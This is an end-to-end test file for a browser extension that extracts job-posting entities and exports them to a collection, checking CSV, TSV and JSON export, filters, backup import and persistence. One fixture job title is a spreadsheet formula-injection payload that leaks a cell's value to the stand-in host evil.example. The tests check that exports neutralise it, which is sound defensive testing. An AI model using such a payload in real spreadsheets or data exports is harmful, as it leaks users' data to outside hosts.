/// <reference types="chrome" />
// Export and the saved collection in real Chromium: two invented postings on 127.0.0.1, each
// extracted through the popup (the OpenAI-compatible test server answers different entities for
// each), the popup's export bar (clipboard row and table, CSV download), "Save to collection"
// (saved, then updated), and the collection page: table, filters, sort, bar chart, delete, CSV /
// TSV / JSON exports read back from the downloaded files, and JSON backup import (a bad file
// changes nothing).
import { mkdtempSync, readFileSync, rmSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { chromium, type BrowserContext, type Download, type Page } from 'playwright-core';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { ENTITY_TYPES, type Entities } from '../../src/core/entities';
import { BACKUP_FORMAT, COLLECTION_HEADER, parseBackup } from '../../src/core/export/collection';
import { parseDelimited, toTSVRow, UTF8_BOM } from '../../src/core/export/delimited';
import { joinCell, SPREADSHEET_HEADER } from '../../src/core/export/rows';
import { PROJECT_DIR } from '../shared';
import { extensionArgs, HEADLESS_ARGS } from '../../scripts/find-chromium.mjs';
import type { OpenAIServer } from '../server/openai-server';
import {
  chromiumPath,
  closeAll,
  DIST_DIR,
  OptionsPage,
  PopupPage,
  startFixturePages,
  startTestBed,
  tabIdOf,
  type ExtensionBrowser,
  type JobSite,
} from './fixtures';

const KEY = 'sk-test-collection-0123456789';
const MODEL = 'ft:davinci-002:crème:collection:e2e';
const FIXTURES = join(PROJECT_DIR, 'test', 'fixtures', 'e2e-collection');

const FORMULA_TITLE = '=HYPERLINK("http://evil.example/?leak="&A1,"Data Engineer")';

/** What the "fine-tuned model" answers for each invented page (found by a phrase of its text). */
const ANSWERS: { marker: string; entities: Entities }[] = [
  {
    marker: 'feeding our forecasts',
    entities: {
      diploma: ['bachelor'],
      diploma_major: ['statistics', 'mathematics'],
      experience: ['3 + years'],
      skills: ['sql', 'python', 'excel', 'python'],
    },
  },
  {
    marker: 'running production systems',
    entities: {
      diploma: ['bs'],
      diploma_major: ['computer science'],
      experience: ['5 + years'],
      skills: ['kubernetes', 'terraform', 'go', 'python'],
    },
  },
];
const [DATA, PLATFORM] = ANSWERS.map((a) => a.entities);

function completion(e: Entities): string {
  return ' ' + ENTITY_TYPES.map((t) => `${t}:[${e[t].map((v) => `'${v}'`).join(', ')}]`).join('\n ') + '\n END';
}

let ext: ExtensionBrowser;
let server: OpenAIServer;
let site: JobSite;

beforeAll(async () => {
  ({ server, site, ext } = await startTestBed(
    {
      apiKey: KEY,
      answer: (req) =>
        completion(
          ANSWERS.find((a) => req.prompt.includes(a.marker))?.entities ?? {
            diploma: [],
            diploma_major: [],
            experience: [],
            skills: [],
          },
        ),
    },
    () => startFixturePages(FIXTURES),
  ));
  await ext.context.grantPermissions(['clipboard-read', 'clipboard-write']);
  expect(await OptionsPage.configure(ext, { baseURL: server.url, apiKey: KEY, model: MODEL, mode: 'auto' })).toBe(
    'Saved.',
  );
});

afterAll(() => closeAll(ext, site, server));

/** Opens the job page and its popup, waits for the chips. */
async function popupFor(file: string): Promise<{ popup: PopupPage; url: string; page: Page }> {
  const page = await ext.context.newPage();
  const url = `${site.origin}/${file}`;
  await page.goto(url);
  const popup = await PopupPage.open(ext, await tabIdOf(ext, page));
  expect(await popup.settled()).toBe('done');
  return { popup, url, page };
}

async function exportStatus(page: Page, text: string): Promise<void> {
  await page.getByTestId('export-status').filter({ hasText: text }).waitFor();
}

async function downloaded(page: Page, click: () => Promise<void>): Promise<{ download: Download; text: string }> {
  const [download] = await Promise.all([page.waitForEvent('download'), click()]);
  const path = await download.path();
  return { download, text: readFileSync(path, 'utf8') };
}

async function storedCollection(): Promise<unknown> {
  return ext.worker.evaluate(async () => (await chrome.storage.local.get('collection')).collection);
}

function expectedRow(title: string, company: string, url: string, e: Entities): string[] {
  return [
    title,
    company,
    expect.stringContaining(''),
    url,
    joinCell(e.diploma),
    joinCell(e.diploma_major),
    joinCell(e.experience),
    joinCell(e.skills),
  ] as string[];
}

async function openCollection(): Promise<Page> {
  const page = await ext.context.newPage();
  await page.goto(ext.url('src/collection/collection.html'));
  await page.getByTestId('collection-count').filter({ hasNotText: 'Loading' }).waitFor();
  return page;
}

describe('export bar in the popup', () => {
  it('"Copy as row" puts one tab-separated row on the clipboard; "Copy table" the header and the row', async () => {
    const { popup, url, page } = await popupFor('formula-title.html');
    await popup.menu('export-menu', 'copy-row');
    await exportStatus(popup.page, 'Copied as a row');
    const row = await popup.page.evaluate(() => navigator.clipboard.readText());
    expect(row).not.toMatch(/[\r\n]/);
    const cells = row.split('\t');
    expect(cells).toHaveLength(SPREADSHEET_HEADER.length);
    // The hostile title is neutralised: a leading quote, so the spreadsheet shows text.
    expect(cells[0]).toBe(`'${FORMULA_TITLE}`);
    expect(cells[1]).toBe('Crème Brûlée Analytics, SARL');
    expect(cells[2]).toMatch(/Lyon/);
    expect(cells[3]).toBe(url);
    expect(cells.slice(4)).toEqual([
      joinCell(DATA.diploma),
      joinCell(DATA.diploma_major),
      joinCell(DATA.experience),
      joinCell(DATA.skills),
    ]);
    // Several values in one cell, joined with "; ", each once (python is answered twice).
    expect(cells[5]).toBe('statistics; mathematics');
    expect(cells[7].split('; ')).toHaveLength(3);
    expect(cells[7].toLowerCase()).toBe('sql; python; excel');

    await popup.menu('export-menu', 'copy-table');
    await exportStatus(popup.page, 'Copied header and row');
    const table = (await popup.page.evaluate(() => navigator.clipboard.readText())).split('\n');
    expect(table).toEqual([toTSVRow([...SPREADSHEET_HEADER]), row]);
    await popup.close();
    await page.close();
  });

  it('"Download CSV" saves a CSV file with a BOM, the header and the row', async () => {
    const { popup, url, page } = await popupFor('formula-title.html');
    const { download, text } = await downloaded(popup.page, () => popup.menu('export-menu', 'download-csv'));
    expect(download.suggestedFilename()).toMatch(/\.csv$/);
    expect(text.startsWith(UTF8_BOM)).toBe(true);
    const rows = parseDelimited(text);
    expect(rows[0]).toEqual([...SPREADSHEET_HEADER]);
    expect(rows).toHaveLength(2);
    expect(rows[1]).toEqual(expectedRow(`'${FORMULA_TITLE}`, 'Crème Brûlée Analytics, SARL', url, DATA));
    await popup.close();
    await page.close();
  });

  it('"Save to collection" saves, and saving the same URL again updates it', async () => {
    const a = await popupFor('formula-title.html');
    await a.popup.page.getByTestId('save-to-collection').click();
    await exportStatus(a.popup.page, 'Saved');
    await a.popup.page.getByTestId('save-to-collection').click();
    await exportStatus(a.popup.page, 'Updated');
    await a.popup.close();
    await a.page.close();

    const b = await popupFor('platform-engineer.html');
    await b.popup.page.getByTestId('save-to-collection').click();
    await exportStatus(b.popup.page, 'Saved');

    // "Open collection" opens the collection page in a tab.
    const [opened] = await Promise.all([
      ext.context.waitForEvent('page'),
      b.popup.page.getByTestId('open-collection').click(),
    ]);
    await opened.waitForLoadState();
    expect(opened.url()).toBe(ext.url('src/collection/collection.html'));
    await expect.poll(() => opened.getByTestId('collection-row').count()).toBe(2);
    await opened.close();

    await b.popup.close();
    await b.page.close();
    const stored = await storedCollection();
    const backup = parseBackup(JSON.stringify((stored as { postings: unknown[] }).postings));
    expect(backup.ok).toBe(true);
    if (!backup.ok) return;
    expect(backup.postings.map((p) => p.url)).toEqual([a.url, b.url]);
    expect(backup.postings[0]).toMatchObject({
      title: FORMULA_TITLE,
      company: 'Crème Brûlée Analytics, SARL',
      model: MODEL,
      provider: 'openai',
      entities: DATA,
    });
    expect(backup.postings[1]).toMatchObject({
      title: 'Platform Engineer',
      company: 'Northwind "Fjord" Cloud',
      entities: PLATFORM,
    });
  });
});

describe('collection page', () => {
  it('lists both saved postings; sorts by column; filters by skill, entity type and text', async () => {
    const page = await openCollection();
    const rows = page.getByTestId('collection-row');
    await expect.poll(() => rows.count()).toBe(2);
    // Newest first by default; title A→Z after a click on its header ("=" sorts before "P").
    await page.getByTestId('sort-title').click();
    expect(await page.getByTestId('row-title').allTextContents()).toEqual([FORMULA_TITLE, 'Platform Engineer']);
    await page.getByTestId('sort-title').click();
    expect(await page.getByTestId('row-title').allTextContents()).toEqual(['Platform Engineer', FORMULA_TITLE]);
    await expect(page.locator('th[aria-sort="descending"]').textContent()).resolves.toContain('Title');

    // Skill filter, any spelling.
    await page.getByTestId('skill-filter').fill('Terraform');
    expect(await page.getByTestId('row-title').allTextContents()).toEqual(['Platform Engineer']);
    await page.getByTestId('skill-filter').fill('Python');
    await expect.poll(() => rows.count()).toBe(2);
    await page.getByTestId('skill-filter').fill('');
    // Entity type and value.
    await page.getByTestId('type-filter').selectOption('diploma_major');
    await page.getByTestId('type-value-filter').fill('statistics');
    expect(await page.getByTestId('row-title').allTextContents()).toEqual([FORMULA_TITLE]);
    await page.getByTestId('clear-filters').click();
    // Free text over every column.
    await page.getByTestId('collection-search').fill('tromsø');
    expect(await page.getByTestId('row-title').allTextContents()).toEqual(['Platform Engineer']);
    await page.getByTestId('collection-search').fill('nothing like this');
    await page.getByTestId('no-match').waitFor();
    await page.getByTestId('clear-filters').click();
    await expect.poll(() => rows.count()).toBe(2);
    await page.close();
  });

  it('charts the most frequent skills (and per entity type); a bar filters the table', async () => {
    const page = await openCollection();
    const bars = page.getByTestId('chart-bar');
    const chart = async () =>
      bars.evaluateAll((els) => els.map((e) => [e.getAttribute('data-value'), Number(e.getAttribute('data-count'))]));
    const skills = await chart();
    // Python is in both postings (counted once per posting), the rest once.
    expect(skills[0]).toEqual(['Python', 2]);
    expect(skills).toHaveLength(6);
    expect(skills.slice(1).every(([, n]) => n === 1)).toBe(true);
    await page.getByTestId('chart-type').selectOption('experience');
    expect((await chart()).map(([, n]) => n)).toEqual([1, 1]);
    await page.getByTestId('chart-type').selectOption('skills');
    await bars.filter({ hasText: 'Kubernetes' }).click();
    expect(await page.getByTestId('row-title').allTextContents()).toEqual(['Platform Engineer']);
    await expect(page.getByTestId('skill-filter').inputValue()).resolves.toBe('Kubernetes');
    await page.getByTestId('clear-filters').click();
    // Light and dark follow the system (the README's picture is taken in collection-tracking.test.ts).
    const background = () => page.evaluate(() => getComputedStyle(document.body).backgroundColor);
    const light = await background();
    await page.emulateMedia({ colorScheme: 'dark' });
    const dark = await background();
    expect(dark).not.toBe(light);
    const [r, g, b] = dark.match(/\d+/g)!.map(Number);
    expect(r + g + b).toBeLessThan(150);
    await page.close();
  });

  it('exports everything as CSV (BOM, header + 2 rows, "; " joins, formula neutralised), TSV and JSON', async () => {
    const page = await openCollection();
    const urls = await page
      .getByTestId('collection-row')
      .evaluateAll((els) => els.map((e) => e.getAttribute('data-url') ?? ''));
    const dataUrl = urls.find((u) => u.endsWith('formula-title.html'))!;
    const platformUrl = urls.find((u) => u.endsWith('platform-engineer.html'))!;

    const csv = await downloaded(page, () => page.getByTestId('export-csv').click());
    expect(csv.download.suggestedFilename()).toMatch(/^job-entities-\d{4}-\d{2}-\d{2}\.csv$/);
    expect(csv.text.charCodeAt(0)).toBe(0xfeff);
    expect(csv.text).toContain('\r\n');
    const rows = parseDelimited(csv.text);
    expect(rows).toHaveLength(3);
    expect(rows[0]).toEqual([...COLLECTION_HEADER]);
    const byUrl = new Map(rows.slice(1).map((r) => [r[3], r]));
    expect(byUrl.get(dataUrl)).toEqual([
      ...expectedRow(`'${FORMULA_TITLE}`, 'Crème Brûlée Analytics, SARL', dataUrl, DATA),
      'New',
      '',
    ]);
    expect(byUrl.get(platformUrl)).toEqual([
      ...expectedRow('Platform Engineer', 'Northwind "Fjord" Cloud', platformUrl, PLATFORM),
      'New',
      '',
    ]);
    expect(byUrl.get(platformUrl)![7].split('; ')).toHaveLength(4);
    expect(byUrl.get(platformUrl)![2]).toMatch(/Tromsø/);
    // In the raw file the formula cell is quoted and starts with the neutralising quote.
    expect(csv.text).toContain(`"'=HYPERLINK(""http://evil.example/?leak=""&A1,""Data Engineer"")"`);

    const tsv = await downloaded(page, () => page.getByTestId('export-tsv').click());
    const tsvRows = parseDelimited(tsv.text, '\t');
    expect(tsvRows).toEqual(rows);

    const json = await downloaded(page, () => page.getByTestId('export-json').click());
    const parsed = parseBackup(json.text);
    expect(parsed.ok).toBe(true);
    expect(JSON.parse(json.text).format).toBe(BACKUP_FORMAT);
    if (parsed.ok) expect(parsed.postings.map((p) => p.url).sort()).toEqual([dataUrl, platformUrl].sort());
    await page.close();
  });

  it('a bad backup changes nothing; a good one restores deleted rows', async () => {
    const page = await openCollection();
    const rows = page.getByTestId('collection-row');
    await expect.poll(() => rows.count()).toBe(2);
    const before = await storedCollection();
    const backup = (await downloaded(page, () => page.getByTestId('export-json').click())).text;

    const notice = page.getByTestId('collection-notice');
    // Not JSON.
    await page
      .getByTestId('import-json')
      .setInputFiles({ name: 'notes.json', mimeType: 'application/json', buffer: Buffer.from('title,company\nx,y\n') });
    await notice.filter({ hasText: 'not JSON' }).waitFor();
    expect(await notice.getAttribute('data-kind')).toBe('error');
    // JSON, right format, but the second posting is damaged: nothing at all is imported.
    const damaged = JSON.parse(backup);
    damaged.postings[0].title = 'Imported over the saved one';
    damaged.postings.push({
      url: 'https://example.invalid/job',
      title: 'x',
      company: 'y',
      location: 'z',
      capturedAt: 'yesterday',
      entities: {},
      model: 'm',
      provider: 'openai',
    });
    await page.getByTestId('import-json').setInputFiles({
      name: 'damaged.json',
      mimeType: 'application/json',
      buffer: Buffer.from(JSON.stringify(damaged)),
    });
    await notice.filter({ hasText: 'damaged' }).waitFor();
    await expect(notice.textContent()).resolves.toMatch(/posting 3.*Nothing was changed/);
    expect(await storedCollection()).toEqual(before);
    await expect.poll(() => rows.count()).toBe(2);
    expect(await page.getByTestId('row-title').allTextContents()).not.toContain('Imported over the saved one');

    // Delete one row, then import the good backup: it comes back.
    await rows.filter({ hasText: 'Platform Engineer' }).getByTestId('delete-row').click();
    await expect.poll(() => rows.count()).toBe(1);
    await notice.filter({ hasText: 'Deleted' }).waitFor();
    await page
      .getByTestId('import-json')
      .setInputFiles({ name: 'backup.json', mimeType: 'application/json', buffer: Buffer.from(backup) });
    await notice.filter({ hasText: '1 new, 1 updated' }).waitFor();
    await expect.poll(() => rows.count()).toBe(2);

    // Delete and Undo.
    await rows.filter({ hasText: 'Platform Engineer' }).getByTestId('delete-row').click();
    await expect.poll(() => rows.count()).toBe(1);
    await page.getByTestId('notice-action').click();
    await expect.poll(() => rows.count()).toBe(2);
    await page.close();
  });

  it('a damaged stored entry is set aside without hiding the others', async () => {
    const good = await storedCollection();
    await ext.worker.evaluate(async () => {
      const { collection } = (await chrome.storage.local.get('collection')) as {
        collection: { version: number; postings: unknown[] };
      };
      await chrome.storage.local.set({
        collection: { ...collection, postings: [...collection.postings, { url: 42, title: null }] },
      });
    });
    const page = await openCollection();
    await expect.poll(() => page.getByTestId('collection-row').count()).toBe(2);
    await page.getByTestId('collection-invalid').waitFor();
    // The next change writes the collection back clean and keeps the bad entry aside.
    await page.getByTestId('collection-row').filter({ hasText: 'Platform Engineer' }).getByTestId('delete-row').click();
    await page.getByTestId('notice-action').click();
    await expect.poll(() => page.getByTestId('collection-row').count()).toBe(2);
    const aside = await ext.worker.evaluate(
      async () => (await chrome.storage.local.get('collectionSetAside')).collectionSetAside,
    );
    expect(aside).toEqual([{ url: 42, title: null }]);
    expect(((await storedCollection()) as { postings: unknown[] }).postings).toHaveLength(
      (good as { postings: unknown[] }).postings.length,
    );
    await page.close();
  });

  it('is keyboard reachable: Tab reaches the exports, the import, the filters, the sort headers and the row actions', async () => {
    const page = await openCollection();
    await expect.poll(() => page.getByTestId('collection-row').count()).toBe(2);
    const reached = new Set<string>();
    for (let i = 0; i < 60; i++) {
      await page.keyboard.press('Tab');
      const id = await page.evaluate(() => document.activeElement?.getAttribute('data-testid') ?? '');
      if (id) reached.add(id);
    }
    for (const id of [
      'export-csv',
      'export-tsv',
      'export-json',
      'import-json',
      'chart-bar',
      'skill-filter',
      'sort-title',
      'delete-row',
    ])
      expect(reached).toContain(id);
    await page.close();
  });
});

describe('durable across a browser restart', () => {
  /** The built extension in Chromium on a profile folder that outlives the browser (launchExtension's does not). */
  async function launchOn(profile: string): Promise<{ context: BrowserContext; url: (path: string) => string }> {
    const context = await chromium.launchPersistentContext(profile, {
      executablePath: await chromiumPath(),
      headless: true,
      args: [...HEADLESS_ARGS, ...extensionArgs(DIST_DIR)],
    });
    const worker = context.serviceWorkers()[0] ?? (await context.waitForEvent('serviceworker', { timeout: 20_000 }));
    const id = worker.url().split('/')[2];
    return { context, url: (path) => `chrome-extension://${id}/${path}` };
  }

  it('postings imported before the browser closes are there after it restarts', async () => {
    const profile = mkdtempSync(join(tmpdir(), 'job-entities-collection-'));
    try {
      const first = await launchOn(profile);
      const page = await first.context.newPage();
      await page.goto(first.url('src/collection/collection.html'));
      await page.getByTestId('collection-empty').waitFor();
      await page.getByTestId('import-json').setInputFiles(join(FIXTURES, 'backup.json'));
      await page.getByTestId('collection-notice').filter({ hasText: '2 new, 0 updated' }).waitFor();
      await expect.poll(() => page.getByTestId('collection-row').count()).toBe(2);
      await first.context.close();

      const second = await launchOn(profile);
      const again = await second.context.newPage();
      await again.goto(second.url('src/collection/collection.html'));
      await expect.poll(() => again.getByTestId('collection-row').count()).toBe(2);
      expect((await again.getByTestId('row-title').allTextContents()).sort()).toEqual([
        '@Analyst, Pricing',
        'Site Reliability Engineer',
      ]);
      // The offline extractor's postings say so instead of a model id.
      await expect(
        again.getByTestId('collection-row').filter({ hasText: '@Analyst' }).textContent(),
      ).resolves.toContain('offline extractor');
      await second.context.close();
    } finally {
      rmSync(profile, { recursive: true, force: true });
    }
  });
});
